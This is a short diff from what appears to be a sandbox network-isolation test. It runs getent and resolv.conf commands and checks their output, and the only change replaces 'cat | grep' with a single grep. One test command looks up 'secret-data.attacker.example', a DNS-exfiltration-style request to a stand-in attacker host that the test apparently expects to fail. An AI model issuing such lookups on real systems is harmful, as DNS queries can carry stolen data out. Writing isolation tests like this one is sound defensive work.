@@ -144,7 +144,7 @@ for path in ["/1", "/2", "/3"]:
       getent ahosts secret-data.attacker.example || echo no such name
       getent ahosts host.internal | head -n 1 | cut -d' ' -f1
       RES_OPTIONS=use-vc getent ahosts host.internal | head -n 1 | cut -d' ' -f1
-      cat /etc/resolv.conf | grep nameserver
+      grep ^nameserver /etc/resolv.conf
     `);
     expect(stdout.split("\n")).toEqual([
       "lo:",
